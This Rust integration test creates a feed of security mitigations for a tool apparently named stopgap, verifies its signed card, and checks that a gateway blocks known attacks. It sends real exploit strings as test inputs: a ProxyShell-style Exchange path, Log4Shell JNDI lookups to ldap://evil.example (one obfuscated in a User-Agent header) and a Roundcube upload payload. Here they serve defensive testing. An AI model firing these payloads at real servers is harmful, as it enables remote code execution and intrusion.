//! One command makes an organization's own feed of the project's mitigations, and what it hands out is enough for
//! an agent to block with it.

use std::fs;
use std::path::Path;

use crate::world::{Origin, Seen, VULNERABLE, World, ask, send, stopgap, text, wait_until};
use stopgap_feed::card::{Card, fingerprint};

#[test]
fn a_feed_of_all_mitigations_is_one_command_and_its_card_is_all_that_a_server_needs() {
    let world = World::new();
    let folder = world.path("feed");
    let url = format!("file://{}", folder.join("public/feed.xml").display());
    let mitigations = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../mitigations");
    let made = stopgap(&[
        "feed",
        "init",
        text(&folder),
        "--name",
        "example",
        "--from",
        text(&mitigations),
        "--url",
        &url,
        "--contact",
        "security@example.org",
        "--json",
    ]);
    assert_eq!(made.code, 0, "{made:#?}");
    let made = made.json();
    let ids = made["mitigations"].as_array().unwrap();
    assert!(ids.len() >= 14 && made["released"]["serial"] == 1, "{made}");

    // What a subscriber has is the card, and nothing else of the folder.
    let card = fs::read_to_string(made["card"].as_str().unwrap()).unwrap();
    assert_eq!(made["card_fingerprint"], fingerprint(&card));
    let card = Card::parse(&card).unwrap();
    assert_eq!(card.feed.contact.as_deref(), Some("security@example.org"));
    world.write("card.trust.toml", &card.trust_toml().unwrap());
    let trust = world.path("card.trust.toml");
    let verified =
        stopgap(&["feed", "verify", text(&folder.join("public/feed.xml")), "--trust", text(&trust)]);
    assert_eq!(verified.code, 0, "{verified:#?}");

    let gateway = world.gateway(Origin::start().address);
    let facts = "[facts]\nexchange = \"15.2.986.5\"\nlog4j = \"2.14.1\"\necosystem = \"Debian:12\"\nroundcube = \"1.6.5+dfsg-1+deb12u4\"\n";
    world.config(&format!("{}{}{facts}", card.feed_toml(text(&trust)), gateway.target()));
    world.exchange(VULNERABLE);
    world.ok(&["apply"]);
    for (attack, mitigation) in [
        ("/autodiscover/autodiscover.json?@evil.example/PowerShell/", "M1"),
        ("/?x=%24%7Bjndi:ldap://evil.example/a%7D", "LOG1"),
        ("/?_task=settings&_action=upload&_from=edit-%21x", "RC1"),
    ] {
        wait_until(&format!("{mitigation} refuses its attack"), || {
            ask(gateway.address, attack) == Seen::Closed
        });
    }
    let head = "GET / HTTP/1.1\r\nHost: mail.example.org\r\nUser-Agent: ${${lower:j}ndi:ldap://evil.example/a}\r\n\r\n";
    assert_eq!(send(gateway.address, head), Seen::Closed);
    assert_eq!(ask(gateway.address, "/"), Seen::Status(200));
    // What is not there is not guessed at.
    assert_eq!(world.mitigation("TC1")["verdict"], "NotApplicable");
}
